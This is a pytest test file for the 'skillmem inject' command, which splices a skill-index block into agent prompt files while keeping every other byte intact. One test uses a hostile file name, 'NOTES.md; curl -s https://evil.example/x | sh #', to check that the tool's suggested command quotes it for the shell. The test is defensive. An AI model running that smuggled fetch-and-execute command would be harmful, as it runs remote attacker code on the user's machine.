"""``skillmem inject``: the block written into each prompt file, and every other byte kept as it was."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from ..helpers import (
    PROMPT_HEAD,
    SEED_BLOCK,
    appended,
    run_cli,
    seed_tree,
    skill_md,
    snapshot,
    two_roots_two_files,
    write_skill,
)


def test_inject_adds_the_block_in_the_files_line_ending_and_keeps_every_other_byte(capsys, tree, prompt):
    run = run_cli(capsys, "inject", "--root", tree, "--prompt-file", prompt)
    assert run.code == 0
    assert run.data["changed"] is True
    assert prompt.read_bytes() == appended(PROMPT_HEAD, SEED_BLOCK, b"\r\n")


def test_a_second_inject_changes_nothing_and_writes_nothing(capsys, tree, prompt):
    run_cli(capsys, "inject", "--root", tree, "--prompt-file", prompt)
    os.utime(prompt, ns=(10**9, 10**9))
    before = snapshot(prompt)
    run = run_cli(capsys, "inject", "--root", tree, "--prompt-file", prompt)
    assert run.data["changed"] is False
    assert snapshot(prompt) == before


def test_inject_replaces_only_what_lies_between_the_markers(capsys, tree, prompt):
    text = b"\xef\xbb\xbfhead \xff\n<<<SKILL_INDEX_BEGIN>>>\nold-skill\n<<<SKILL_INDEX_END>>>\ntail \xfe no newline"
    prompt.write_bytes(text)
    run_cli(capsys, "inject", "--root", tree, "--prompt-file", prompt)
    assert prompt.read_bytes() == b"\xef\xbb\xbfhead \xff\n" + SEED_BLOCK + b"\ntail \xfe no newline"


def test_inject_never_creates_a_prompt_file(capsys, tree, tmp_path):
    run = run_cli(capsys, "inject", "--root", tree, "--prompt-file", tmp_path / "NEW.md")
    assert run.code == 2
    assert "does not exist" in run.error["error"]
    assert not (tmp_path / "NEW.md").exists()


def test_the_command_that_creates_a_missing_prompt_file_is_quoted_for_the_shell(capsys, tree, monkeypatch, tmp_path):
    # hostile5: a name from .skillmem.yaml, "NOTES.md; curl ... | sh #", was suggested as "touch NOTES.md; curl ...".
    monkeypatch.chdir(tmp_path)
    name = "NOTES.md; curl -s https://evil.example/x | sh #"
    run = run_cli(capsys, "inject", "--root", tree, "--prompt-file", name)
    assert run.code == 2
    assert run.error["hint"].endswith("for example: touch 'NOTES.md; curl -s https://evil.example/x | sh #'")


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        (b"a\n<<<SKILL_INDEX_BEGIN>>>\n", "line 2"),
        (b"<<<SKILL_INDEX_END>>>\n", "line 1"),
        (b"<<<SKILL_INDEX_END>>>\nx\n<<<SKILL_INDEX_BEGIN>>>\n", "line 1 comes before the BEGIN marker at line 3"),
        (b"<<<SKILL_INDEX_BEGIN>>>\n<<<SKILL_INDEX_END>>>\n" * 2, "BEGIN at line 1, BEGIN at line 3"),
    ],
)
@pytest.mark.parametrize("command", ["inject", "verify"])
def test_marker_trouble_is_exit_2_naming_the_lines_and_the_file_is_untouched(
    capsys, tree, prompt, text, lines, command
):
    prompt.write_bytes(text)
    before = snapshot(prompt)
    run = run_cli(capsys, command, "--root", tree, "--prompt-file", prompt)
    assert run.code == 2
    assert run.out == ""
    assert lines in run.error["error"]
    assert run.error["tool"] == f"skillmem {command}"
    assert snapshot(prompt) == before


def test_several_roots_and_prompt_files(capsys, tmp_path):
    args, files = two_roots_two_files(tmp_path)
    assert run_cli(capsys, "inject", *args).data["changed"] is True
    assert all(b"\na\nb\n" in path.read_bytes() for path in files)
    data = run_cli(capsys, "index", *args[:4]).data
    assert [(skill["name"], skill["root"]) for skill in data["skills"]] == [
        ("a", str(tmp_path / "one")),
        ("b", str(tmp_path / "two")),
    ]


def test_verify_reads_a_read_only_prompt_file_and_inject_refuses_it(capsys, tree, prompt):
    prompt.chmod(0o444)
    try:
        assert run_cli(capsys, "verify", "--root", tree, "--prompt-file", prompt).code == 3
        before = snapshot(prompt)
        run = run_cli(capsys, "inject", "--root", tree, "--prompt-file", prompt)
        assert run.code == 2
        assert "read-only" in run.error["error"]
        assert snapshot(prompt) == before
    finally:
        prompt.chmod(0o644)


def test_a_crlf_prompt_file_with_mixed_endings_keeps_them_all(capsys, tree, prompt):
    text = b"first\r\nsecond\nthird\r\n<<<SKILL_INDEX_BEGIN>>>\nold\r\n<<<SKILL_INDEX_END>>>\nafter\r"
    prompt.write_bytes(text)
    run_cli(capsys, "inject", "--root", tree, "--prompt-file", prompt)
    block = SEED_BLOCK.replace(b"\n", b"\r\n")
    assert prompt.read_bytes() == b"first\r\nsecond\nthird\r\n" + block + b"\nafter\r"


def test_a_prompt_file_named_twice_or_through_a_link_is_handled_once(capsys, tree, prompt, tmp_path):
    link = tmp_path / "CLAUDE.md"
    link.symlink_to(prompt)
    run = run_cli(
        capsys, "inject", "--root", tree, "--prompt-file", prompt, "--prompt-file", link, "--prompt-file", prompt
    )
    assert [item["prompt_file"] for item in run.data["files"]] == [str(prompt)]
    assert prompt.read_bytes().count(b"<<<SKILL_INDEX_BEGIN>>>") == 1


def test_inject_says_what_it_added_then_that_the_file_is_current(capsys, seeded_cwd):
    first = run_cli(capsys, "inject", *seeded_cwd, "--prompt-file", "AGENTS.md", "--text")
    assert first.code == 0
    assert first.out == (
        "AGENTS.md: the skill index was updated\n  added (3): alpha-tool, beta-heading, crlf-skill\n3 skills listed\n"
    )
    again = run_cli(capsys, "inject", *seeded_cwd, "--prompt-file", "AGENTS.md", "--text")
    assert again.out == "AGENTS.md: current\n3 skills listed\n"


def test_concurrent_injects_leave_one_correct_file(tmp_path):
    root = seed_tree(tmp_path / "skills")
    for number in range(200):
        write_skill(root, f"extra-{number:03d}", skill_md(f"extra-{number:03d}", "write docs"))
    prompt = tmp_path / "AGENTS.md"
    command = [sys.executable, "-m", "skillmem_hook", "inject", "--root", str(root), "--prompt-file", str(prompt)]
    for round_number in range(5):
        prompt.write_bytes(b"# round %d\n" % round_number)
        processes = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(4)]
        codes = [process.wait() for process in processes]
        for process in processes:
            process.stdout.close()
            process.stderr.close()
        assert codes == [0, 0, 0, 0]
        result = prompt.read_bytes()
        assert result.startswith(b"# round %d\n\n" % round_number)
        assert b"\n\n<<<SKILL_INDEX_BEGIN>>>\n" in result
        assert result.count(b"<<<SKILL_INDEX_BEGIN>>>") == 1
        assert result.endswith(b"<<<SKILL_INDEX_END>>>\n")
        assert [name for name in os.listdir(tmp_path) if name.endswith(".skillmem-tmp")] == []


def test_a_very_large_prompt_file_is_spliced_exactly(capsys, tmp_path):
    root = seed_tree(tmp_path / "skills")
    prompt = tmp_path / "AGENTS.md"
    head = b"x" * 50_000_000 + b"\n"
    prompt.write_bytes(head + b"<<<SKILL_INDEX_BEGIN>>>\n<<<SKILL_INDEX_END>>>\n" + b"tail\n")
    assert run_cli(capsys, "inject", "--root", root, "--prompt-file", prompt).code == 0
    assert prompt.read_bytes() == head + SEED_BLOCK + b"\ntail\n"


def test_names_a_new_cap_folds_into_a_domain_line_are_said_folded_not_removed(capsys, tmp_path):
    """new user 4: under max_block_tokens, `inject --text` said 'removed (1,531)' of skills all still there."""
    skills = tmp_path / "skills"
    for number in range(40):
        write_skill(skills, f"csv-tool-{number:02}", skill_md(f"csv-tool-{number:02}", "Parse CSV files into tables"))
    write_skill(skills, "gone", skill_md("gone", "Parse CSV files into tables"))
    prompt = tmp_path / "AGENTS.md"
    prompt.write_bytes(b"# Agents\n")
    assert run_cli(capsys, "inject", "--root", skills, "--prompt-file", prompt).code == 0
    (skills / "gone" / "SKILL.md").unlink()
    (skills / "gone").rmdir()
    run = run_cli(capsys, "inject", "--root", skills, "--prompt-file", prompt, "--max-block-tokens", "60")
    (item,) = run.data["files"]
    assert item["stale"] == ["gone"]
    assert item["folded"] == [f"csv-tool-{number:02}" for number in range(40)]
    text = run_cli(capsys, "inject", "--root", skills, "--prompt-file", prompt, "--text").out
    assert "removed" not in text  # the cap lifted: the names come back as added, nothing was removed
